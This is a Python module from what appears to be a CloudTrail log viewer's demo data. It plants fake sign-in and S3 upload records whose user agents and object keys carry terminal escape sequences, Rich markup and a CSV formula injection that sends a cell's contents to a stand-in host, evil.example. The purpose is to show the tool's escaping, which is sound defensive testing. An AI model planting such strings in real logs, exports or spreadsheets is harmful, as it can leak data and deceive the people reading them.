"""Hostile strings planted in fields a caller controls.

Anyone can send any user agent, and anyone who can upload to a bucket chooses
object key names.  The demo puts Rich markup, terminal escape sequences (clear
screen, OSC window title, OSC 8 hyperlink) and a CSV formula in such fields so
that trailtui's escaping is visible in the console, the table output and CSV
exports.  Each record is an ordinary, realistic call otherwise.
"""

from __future__ import annotations

import random
from datetime import UTC, datetime

from trailtui.demo import identities as ids
from trailtui.demo.incident import PlantedRecord
from trailtui.demo.records import Outcome, api_record, tls_details
from trailtui.demo.spec import DEV, GLOBAL_REGION, PROD, DemoSpec, chunk_seed

MARKUP_AGENT = "Mozilla/5.0 [red]x[/red] [bold]admin[/bold] \u001b[2J\u001b[H"
FORMULA_AGENT = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")"
LINK_KEY = ("exports/[link=http://evil.example]invoice[/link]\u001b]8;;http://evil.example\u001b\\"
            "click\u001b]8;;\u001b\\.csv")

HOSTILE_VALUES = (MARKUP_AGENT, FORMULA_AGENT, LINK_KEY)


def hostile_records(spec: DemoSpec) -> list[PlantedRecord]:
    """Three planted records at fixed fractions of the period."""
    rng = random.Random(chunk_seed(spec.seed, "hostile"))
    span = int((spec.end - spec.start).total_seconds())
    base = int(spec.start.timestamp())
    out: list[PlantedRecord] = []

    def when(t: int) -> str:
        return datetime.fromtimestamp(t, UTC).strftime("%Y-%m-%dT%H:%M:%SZ")

    login = {"type": "IAMUser", "accountId": PROD.id, "accessKeyId": "", "userName": "HIDDEN_DUE_TO_SECURITY_REASONS"}
    for fraction, agent, ip in ((0.21, MARKUP_AGENT, "198.18.33.8"), (0.47, FORMULA_AGENT, "198.18.120.66")):
        t = base + int(span * fraction)
        outcome = Outcome(None, {"ConsoleLogin": "Failure"}, {
            "LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "No"})
        outcome.error_message = "No username found in supplied account"
        out.append((t, PROD.id, GLOBAL_REGION, api_record(
            identity=login, when=when(t), service="signin", name="ConsoleLogin", region=GLOBAL_REGION, ip=ip,
            agent=agent, outcome=outcome, account=PROD.id, event_id=ids.random_uuid(rng), request_id=None,
            read_only=False, event_type="AwsConsoleSignIn", tls=tls_details("signin", GLOBAL_REGION))))

    t = base + int(span * 0.63)
    bucket = "acme-dev-scratch"
    name = "contractor-jsmith"
    outcome = Outcome(
        {"bucketName": bucket, "Host": f"{bucket}.s3.us-east-1.amazonaws.com", "key": LINK_KEY},
        {"x-amz-server-side-encryption": "AES256"},
        {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256", "bytesTransferredIn": 5120,
         "AuthenticationMethod": "AuthHeader", "x-amz-id-2": "ZGVtby1ob3N0aWxlLWtleS11cGxvYWQ=",
         "bytesTransferredOut": 0},
        [{"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::{bucket}/{LINK_KEY}"},
         {"accountId": DEV.id, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{bucket}"}])
    out.append((t, DEV.id, GLOBAL_REGION, api_record(
        identity=ids.iam_user(DEV.id, name), when=when(t), service="s3", name="PutObject", region=GLOBAL_REGION,
        ip="198.51.100.180", agent="[aws-cli/2.17.32 md/command#s3.cp]", outcome=outcome, account=DEV.id,
        event_id=ids.random_uuid(rng), request_id=ids.random_token(rng, 16), read_only=False, version="1.10",
        category="Data", tls=tls_details("s3", GLOBAL_REGION, bucket=bucket))))
    return out
